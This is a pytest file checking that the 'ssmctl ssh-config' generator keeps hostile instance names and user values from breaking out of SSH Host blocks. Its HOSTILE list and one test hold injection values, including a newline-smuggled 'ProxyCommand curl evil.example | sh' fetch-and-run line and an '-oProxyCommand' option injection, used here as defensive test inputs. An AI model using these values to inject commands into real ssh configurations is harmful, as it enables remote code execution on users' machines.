"""`ssmctl ssh-config`: Host blocks, safe against hostile tag values."""

from __future__ import annotations

import shlex

import pytest

from ssmctl.models import Instance
from ssmctl.sandbox import Sandbox
from ssmctl.ssh_config import host_alias, host_blocks
from tests.conftest import RunCli

pytestmark = pytest.mark.usefixtures("ssmctl_sandbox_env")


def test_blocks_for_a_tag(cli: RunCli, ssmctl_sandbox: Sandbox) -> None:
    result = cli("ssh-config", "--tag", "Role=web", "--user", "ec2-user")
    assert result.exit_code == 0, result.stderr
    web_1 = ssmctl_sandbox.node_id("web-1")
    assert (
        f"# web-1 in us-east-1\n"
        f"Host web-1 {web_1}\n"
        f"    HostName {web_1}\n"
        f"    User ec2-user\n"
        f"    ProxyCommand ssmctl proxy {web_1} --region us-east-1 --port %p\n"
    ) in result.stdout
    assert result.stdout.count("Host ") == 2


def test_several_targets_regions_profile_and_endpoint(cli: RunCli, ssmctl_sandbox: Sandbox) -> None:
    result = cli(
        "ssh-config", "db-1", "eu-web-1", "--region", "us-east-1,eu-west-1",
        "--endpoint-url", ssmctl_sandbox.endpoint_url, "--command", "/opt/my tools/ssmctl",
    )  # fmt: skip
    assert result.exit_code == 0, result.stderr
    eu = ssmctl_sandbox.node_id("eu-web-1")
    assert (
        f"ProxyCommand '/opt/my tools/ssmctl' proxy {eu} --region eu-west-1 "
        f"--endpoint-url {ssmctl_sandbox.endpoint_url} --port %p"
    ) in result.stdout
    assert "Host db-1 " in result.stdout


def test_nothing_managed_matches(cli: RunCli) -> None:
    result = cli("ssh-config", "scratch-1")  # running, but without an SSM agent
    assert result.exit_code == 3


def test_bad_user_is_refused(cli: RunCli) -> None:
    result = cli("ssh-config", "web-1", "--user", "root\n    ProxyCommand evil")
    assert result.exit_code == 2


HOSTILE = [
    "web\n    ProxyCommand curl evil.example | sh",
    "*",
    "a b,c!d",
    "%h%%",
    "-oProxyCommand=x",
    "\u202eevil",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_names_stay_inert(name: str) -> None:
    instance = Instance("i-0123456789abcdef0", "us-east-1", name=name)
    text = host_blocks([instance], profile="pro%file", user="ops")
    lines = text.splitlines()
    assert [line.split()[0] for line in lines] == ["#", "Host", "HostName", "User", "ProxyCommand"]
    assert lines[0].startswith("# ") and "\n" not in lines[0]
    patterns = lines[1].split()[1:]
    assert patterns[-1] == "i-0123456789abcdef0"
    assert all(set(p) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-")
               for p in patterns)  # fmt: skip
    assert not any(p.startswith("-") for p in patterns)
    proxy = shlex.split(lines[4].split(" ", 5)[-1].replace("%%", "%"))
    assert proxy[proxy.index("--profile") + 1] == "pro%file"


def test_shared_names_are_left_to_the_ids() -> None:
    twins = [Instance(f"i-000000000000000{n}a", "us-east-1", name="app") for n in (1, 2)]
    text = host_blocks(twins)
    assert "Host app" not in text
    assert "Host i-0000000000000001a\n" in text


def test_host_alias() -> None:
    assert host_alias("web 1/prod") == "web-1-prod"
    assert host_alias("...") == ""
